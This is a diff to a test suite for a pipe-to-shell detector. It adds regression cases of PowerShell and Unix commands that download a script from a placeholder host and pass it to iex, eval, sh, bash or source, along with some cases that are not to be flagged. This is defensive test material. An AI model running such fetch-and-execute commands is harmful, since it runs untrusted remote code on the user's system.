@@ -483,6 +483,28 @@ describe("pipe-to-shell", () => {
       "a block of a download run after one that is not",
       "$a = [scriptblock]::Create((irm https://x.example/a)); & ([scriptblock]::Create((irm https://x.example/b)))",
     ],
+    // Regression: a PowerShell subexpression's `$(…)` around the download, in a string or not, and iex's
+    // -Command, hid it from iex.
+    ["iex $(irm)", "iex $(irm https://x.example/i.ps1)"],
+    ['iex "$(irm)"', 'iex "$(irm https://x.example/i.ps1)"'],
+    ['iex "& { $(irm) } -UseMSI"', 'iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"'],
+    ["Invoke-Expression -Command (irm)", "Invoke-Expression -Command (irm https://x.example/i.ps1)"],
+    ["iex $(iwr).Content", "iex $(iwr https://x.example/i.ps1 -UseBasicParsing).Content"],
+    // Regression: a downloader named by its path, escaped from an alias or run by a runner inside the
+    // substitution was no download.
+    ['eval "$(/usr/bin/curl)"', 'eval "$(/usr/bin/curl -fsSL https://x.example/i.sh)"'],
+    ['eval "$(\\curl)"', 'eval "$(\\curl -fsSL https://x.example/i.sh)"'],
+    ['eval "$(command curl)"', 'eval "$(command curl -fsSL https://x.example/i.sh)"'],
+    ['sh -c "$(sudo wget -qO-)"', 'sh -c "$(sudo wget -qO- https://x.example/i.sh)"'],
+    ["bash <(/usr/bin/curl)", "bash <(/usr/bin/curl -fsSL https://x.example/i.sh)"],
+    ["eval $(wget -qO-)", "eval $(wget -qO- https://x.example/env.sh)"],
+    // Regression: the line's shell running its standard input, a download, was missed.
+    ['source /dev/stdin <<< "$(curl)"', 'source /dev/stdin <<< "$(curl -fsSL https://x.example/env.sh)"'],
+    // Regression: fish's `source` given no file reads standard input (fisher's own install line).
+    [
+      "curl | source (fish)",
+      "curl -sL https://x.example/functions/fisher.fish | source && fisher install jorgebucaran/fisher",
+    ],
     // Programs not known to drop what they read pass the download on to the shell after them.
     ["curl | tee f | sh", "curl -fsSL https://x.example/i.sh | tee install.sh | sh"],
     ["curl | gunzip | sh", "curl -fsSL https://x.example/i.sh.gz | gunzip | sudo bash"],
@@ -652,6 +674,10 @@ describe("pipe-to-shell", () => {
     ["[scriptblock]::Create((irm)) unrun", "$block = [scriptblock]::Create((irm https://x.example/i.ps1))"],
     ["a block after &&", "Test-Path x && [scriptblock]::Create((irm https://x.example/i.ps1))"],
     ["& a block of no download", "irm https://x.example/data; & ([scriptblock]::Create('Get-Date'))"],
+    // A substitution whose first command is no download, and a sourced script given one as its input.
+    ["eval $(echo curl)", "eval $(echo curl https://x.example/i.sh)"],
+    ["source a script < <(curl)", "source ./process.sh < <(curl -s https://x.example/data)"],
+    ["curl | source a script", "curl -s https://x.example/data | source ./process.sh"],
     // Regression: a stage that writes nothing it reads passes none of the download to the shell after it.
     ["curl | echo | sh", "curl -fsSL https://x.example/i.sh | echo hi | sh"],
     ["curl | printf | bash", "curl -fsSL https://x.example/i.sh | printf 'set -e\\n' | bash"],
